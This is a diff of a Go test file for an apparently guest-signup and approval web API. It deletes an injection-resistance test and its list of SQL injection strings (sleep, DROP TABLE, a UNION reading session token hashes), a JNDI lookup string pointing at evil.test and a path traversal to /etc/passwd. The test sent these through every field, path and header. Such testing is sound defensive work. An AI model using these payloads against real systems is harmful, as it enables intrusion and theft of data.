@@ -4,7 +4,6 @@ import (
 	"net/http"
 	"net/url"
 	"testing"
-	"time"
 
 	"github.com/stretchr/testify/require"
 
@@ -52,56 +51,6 @@ func escaped(query string) string {
 		}
 	}
 	return out
-}
-
-var injections = []string{
-	"';SELECT pg_sleep(5)--", "x' OR '1'='1", "x\" OR \"1\"=\"1", "1); DROP TABLE requests; --", "' UNION SELECT token_hash FROM identity_sessions --", "%27%20OR%201=1",
-	"\\'; SELECT 1; --", "$$; SELECT pg_sleep(5); $$", "x'||(SELECT pg_sleep(5))||'", "' AND randomblob(1000000000) --", "1 OR pg_sleep(5)", "${jndi:ldap://evil.test/x}", "../../../../etc/passwd",
-}
-
-// Row T55: nothing that is typed becomes a statement, in no field, path, parameter or header.
-func TestT55_NothingTypedBecomesAStatement(t *testing.T) {
-	story.Attack(t, func(t *testing.T, tn *story.Town) {
-		maria := tn.Visitor(t, "maria").Proves(story.Partner).Speaks("de")
-		sponsor := tn.Member(t, story.Jonas).Speaks("de")
-		before := tn.Count(t, "SELECT count(*) FROM directory_users WHERE user_type = 'Member'")
-		quick := func(ask func() story.Answer) {
-			t.Helper()
-			var a story.Answer
-			for range 3 { // a busy machine holds one call up; a statement that sleeps does so every time
-				began := time.Now()
-				a = ask()
-				require.Less(t, a.Status, 500, "%s", a)
-				if time.Since(began) < 4*time.Second {
-					return
-				}
-			}
-			t.Errorf("three times too slow: %s", a)
-		}
-		for _, typed := range injections {
-			inPath, inQuery := url.PathEscape(typed), url.QueryEscape(typed)
-			for _, path := range []string{
-				"/api/v1/guests?search=" + inQuery, "/api/v1/approvals?search=" + inQuery, "/api/v1/approvals?after=" + inQuery, "/api/v1/guests?sponsor=" + inQuery, "/api/v1/guests?state=" + inQuery,
-				"/api/v1/guests/" + inPath, "/api/v1/approvals/" + inPath, "/api/v1/flows/" + inPath, "/api/v1/requests/" + inPath, "/api/v1/decide/" + inPath,
-			} {
-				quick(func() story.Answer { return sponsor.Get(path) })
-			}
-			for _, p := range []*story.Person{sponsor.With("Accept-Language", typed), sponsor.With("Idempotency-Key", typed)} {
-				quick(func() story.Answer {
-					return p.Post("/api/v1/approvals/req_01JZZZZZZZZZZZZZZZZZZZZZZZ/decision", map[string]any{"decision": "approve"})
-				})
-			}
-			quick(func() story.Answer {
-				return maria.Post(maria.Path("/submit"), map[string]any{"answers": story.Answered("reason", typed)})
-			})
-			quick(func() story.Answer {
-				return maria.Patch(maria.Path(""), map[string]any{"answers": map[string]any{typed: "x"}})
-			})
-			quick(func() story.Answer { return maria.Post("/api/v1/signin/code", map[string]any{"code": typed}) })
-		}
-		require.Equal(t, before, tn.Count(t, "SELECT count(*) FROM directory_users WHERE user_type = 'Member'"))
-		maria.Leaves(story.Left{Traces: story.Traces{Mails: 1, Codes: 1}, Audit: []string{"signup.started", "signup.proved"}})
-	})
 }
 
 // Row T57: what is for operators is not on the public listener.
